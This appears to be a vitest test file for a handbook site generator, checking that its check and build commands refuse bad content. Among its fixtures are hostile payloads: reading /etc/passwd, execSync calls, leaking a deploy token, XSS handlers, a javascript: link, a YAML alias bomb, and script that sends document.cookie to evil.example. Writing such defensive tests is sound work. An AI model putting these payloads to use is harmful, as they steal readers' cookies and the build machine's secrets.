import { existsSync } from 'node:fs';
import { readFile, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkHandbook } from '../../src/lib/content/validate.ts';
import { formatProblem } from '../../src/lib/content/problems.ts';
import { runPlaybook, testToday, runPlaybookHere } from '../helpers/build.ts';
import { guideInput, mdx, minimalHandbook } from '../helpers/entries.ts';
import { makeProject } from '../helpers/project.ts';

/** A stack trace line, which no command may print for bad input. */
const stackTrace = /\n\s+at .*:\d+:\d+\)?\n/;

const guide = (overrides: Parameters<typeof guideInput>[0], body?: string) => mdx(guideInput(overrides), body);
const latin1 = (text: string) => Uint8Array.from([...text].map((char) => char.charCodeAt(0)));
const aliasBomb = [
  'a: &a [x, x, x, x, x, x, x, x, x]',
  ...'bcdefg'.split('').map((name, i) => `${name}: &${name} [${Array(9).fill(`*${'abcdefg'[i]}`).join(', ')}]`),
].join('\n');

/**
 * Inputs that `check` once passed and the build then crashed on, or published unchecked. Each is a small
 * valid handbook plus one shape; `files` are written into the project, `prepare` makes what files cannot
 * (links, a missing folder). `expect` is what must appear in both outputs: the file, and its line when it has one.
 */
const refused: {
  shape: string;
  files?: Record<string, string | Uint8Array>;
  prepare?: (root: string) => Promise<void>;
  /** The content folder, when it is not the project's content/ (and then no starting handbook is written). */
  content?: string;
  expect: RegExp[];
}[] = [
  {
    shape: 'a symbolic link to an entry outside the content folder',
    files: { 'outside.mdx': guide({ title: 'From outside' }) },
    prepare: (root) => symlink(join(root, 'outside.mdx'), join(root, 'content/guides/linked.mdx')),
    expect: [/content\/guides\/linked\.mdx {2}error {2}symbolic links are not allowed/],
  },
  {
    shape: 'a guide in a nested folder',
    files: { 'content/guides/finance/nested.mdx': guide({ title: 'Nested' }) },
    expect: [
      /content\/guides\/finance\/nested\.mdx {2}error {2}entries live directly in guides\/.*move it to guides\/nested\.mdx/,
    ],
  },
  ...[
    ['🚀', 'rocket'],
    ['&', 'ampersand'],
    ['++', 'plus'],
  ].map(([tag, id]) => ({
    shape: `a tag whose page address is empty (${tag})`,
    files: { [`content/guides/tag-${id}.mdx`]: guide({ tags: [tag!] }) },
    expect: [
      new RegExp(
        `content/guides/tag-${id}\\.mdx:\\d+:\\d+ {2}error {2}tags\\[0\\]: tag "${tag!.replace(/[+]/g, '\\+')}" makes no page address`,
      ),
    ],
  })),
  {
    shape: 'tags whose page addresses collide (C, C#, C++)',
    files: { 'content/guides/tag-collisions.mdx': guide({ tags: ['C', 'C#', 'C++'] }) },
    expect: [
      /tag-collisions\.mdx:\d+:\d+ {2}error {2}tags\[1\]: tag "C#" would share the page \/tags\/c\/ with "C"/,
      /tag-collisions\.mdx:\d+:\d+ {2}error {2}tags\[2\]: tag "C\+\+" would share the page \/tags\/c\/ with "C"/,
    ],
  },
  {
    shape: 'a number-like value in a text field',
    files: { 'content/guides/number-title.mdx': guide({}).replace(/^title: .*$/m, 'title: 1.10') },
    expect: [
      /number-title\.mdx:2:8 {2}error {2}title: found 1\.1; expected text — YAML reads 1\.10 as a number; put it in quotes to keep it as text: "1\.10"/,
    ],
  },
  {
    shape: 'a file saved as Latin-1',
    files: { 'content/guides/latin-1.mdx': latin1(guide({}, '## Introduction\n\nSoci\u00e9t\u00e9 G\u00e9n\u00e9rale.\n')) },
    expect: [/latin-1\.mdx:\d+:5 {2}error {2}the file is not UTF-8 text \(found: byte 0xE9/],
  },
  {
    shape: 'a YAML alias bomb',
    files: { 'content/systems/bomb.yaml': `name: Bomb\ncategory: other\napi: [rest]\nauth: [oauth2]\n${aliasBomb}\n` },
    expect: [/content\/systems\/bomb\.yaml:\d+:\d+ {2}error {2}YAML aliases expand too far/],
  },
  {
    shape: 'a content folder that does not exist',
    content: 'missing',
    expect: [/missing {2}error {2}the content folder does not exist \(found: nothing at missing\//],
  },
  {
    shape: 'a content folder that is a file',
    content: 'handbook.txt',
    files: { 'handbook.txt': 'not a folder' },
    expect: [/handbook\.txt {2}error {2}the content folder is not a folder/],
  },
  {
    shape: 'an unknown folder in the content folder',
    files: { 'content/guide/typo.mdx': guide({}) },
    expect: [/content\/guide {2}error {2}unknown folder in the content folder \(found: "guide".*did you mean "guides"\?/],
  },
  ...[
    ['reads a file of the build machine', "import passwd from '/etc/passwd?raw'", /mdx-esm/],
    ['reads a file next to it', "import notes from '../../notes.txt?raw'", /mdx-esm/],
    ['runs a command in an export', "export const who = require('child_process').execSync('id').toString()", /mdx-esm/],
    ['runs a command in an expression', "{require('child_process').execSync('id').toString()}", /mdx-expression/],
    ['publishes an environment variable', '{process.env.DEPLOY_TOKEN}', /mdx-expression/],
    ['ships a script to readers', '<script>{`fetch("https://evil.example/?" + document.cookie)`}</script>', /html-element/],
    ['ships an event handler', '<img src="x.png" onerror="alert(document.cookie)" />', /event-handler/],
    [
      'ships an event handler in a diagram',
      '```mermaid\nflowchart LR\n  a["<img src=x onerror=alert(1)>"]\n```',
      /event-handler/,
    ],
    ['embeds a document that runs script', '<iframe srcdoc="<script>alert(1)</script>" />', /html-element/],
    ['links to javascript:', '[Open the dashboard](javascript:alert(document.cookie))', /unsafe-url/],
  ].map(([does, payload, rule], index) => ({
    shape: `an entry that ${does as string}`,
    files: { [`content/guides/payload-${index}.mdx`]: guide({}, `## Introduction\n\n${payload as string}\n`) },
    expect: [new RegExp(`content/guides/payload-${index}\\.mdx:\\d+:\\d+ {2}error {2}.*\\(${(rule as RegExp).source}\\)`)],
  })),
  {
    shape: 'a script file in public/',
    files: { 'public/steal.js': 'fetch("https://evil.example/?" + document.cookie)' },
    expect: [/public\/steal\.js {2}error {2}public\/ cannot hold files that browsers run as code/],
  },
];

/** One problem line per shape, as check prints it. */
async function checkLines(root: string, content: string): Promise<string> {
  const report = await checkHandbook({ root, contentDir: join(root, content) }, { PLAYBOOK_TODAY: testToday });
  return report.problems.map(formatProblem).join('\n');
}

describe.each(refused)('$shape', ({ files = {}, prepare, content, expect: wanted }) => {
  it('is refused by the check on its own, naming the file', async () => {
    const root = await makeProject({ files: content ? files : minimalHandbook(files) });
    await prepare?.(root);
    const lines = await checkLines(root, content ?? 'content');
    for (const pattern of wanted) expect(lines).toMatch(pattern);
  });
});

/** What `playbook check` and `playbook build` both say of a handbook, and what the build left behind. */
async function checkAndBuild(root: string, content = 'content') {
  const env = { PLAYBOOK_CONTENT: content };
  // In this process, one after the other: each captures what the command prints.
  const check = await runPlaybookHere(['check'], { cwd: root, env });
  const json = await runPlaybookHere(['check', '--format', 'json'], { cwd: root, env });
  const build = await runPlaybook(['build'], { cwd: root, env });
  return { check, json, build, built: existsSync(join(root, 'dist')) };
}

describe('the commands refuse every shape alike', () => {
  it('check and build of one handbook holding every shape name every file, and build writes nothing', async () => {
    const inHandbook = refused.filter((shape) => !shape.content);
    const root = await makeProject({
      files: minimalHandbook(Object.assign({}, ...inHandbook.map((shape) => shape.files ?? {}))),
    });
    for (const shape of inHandbook) await shape.prepare?.(root);
    const { check, json, build, built } = await checkAndBuild(root);
    expect(check.code, check.output).toBe(1);
    expect(build.code, build.output).toBe(1);
    for (const pattern of inHandbook.flatMap((shape) => shape.expect)) {
      expect(check.output).toMatch(pattern);
      expect(build.output).toMatch(pattern);
    }
    const problems = (JSON.parse(json.output) as { problems: { file: string; rule: string }[] }).problems;
    expect(problems).toContainEqual(expect.objectContaining({ file: 'content/systems/bomb.yaml', rule: 'yaml-syntax' }));
    expect(build.output).toMatch(
      /^Build failed: The handbook has \d+ errors; nothing is built until they are fixed\. dist\/ is unchanged\.$/m,
    );
    for (const output of [check.output, json.output, build.output]) expect(output).not.toMatch(stackTrace);
    expect(built).toBe(false);
  });

  it.each(refused.filter((shape) => shape.content))(
    '$shape: both commands name the path, and build writes nothing',
    async ({ files = {}, content, expect: wanted }) => {
      const root = await makeProject({ files });
      const { check, build, built } = await checkAndBuild(root, content);
      expect([check.code, build.code]).toEqual([1, 1]);
      for (const pattern of wanted) {
        expect(check.output).toMatch(pattern);
        expect(build.output).toMatch(pattern);
      }
      for (const output of [check.output, build.output]) expect(output).not.toMatch(stackTrace);
      expect(built).toBe(false);
    },
  );
});

describe('inputs that are fine as written', () => {
  it('keep a date-like title as the text the author wrote, and accept a byte-order mark, in check and on the page', async () => {
    const root = await makeProject({
      files: minimalHandbook({
        'content/guides/invoices-to-ledger.mdx': guide({}).replace(/^title: .*$/m, 'title: 2026-10-01'),
        'content/guides/with-a-bom.mdx': `\uFEFF${guide({ title: 'With a BOM' })}`,
      }),
    });
    const { check, build } = await checkAndBuild(root);
    expect(check.code, check.output).toBe(0);
    expect(build.code, build.output).toBe(0);
    expect(await readFile(join(root, 'dist/guides/invoices-to-ledger/index.html'), 'utf8')).toContain('<h1>2026-10-01</h1>');
    expect(await readFile(join(root, 'dist/guides/with-a-bom/index.html'), 'utf8')).toContain('<h1>With a BOM</h1>');
  });
});
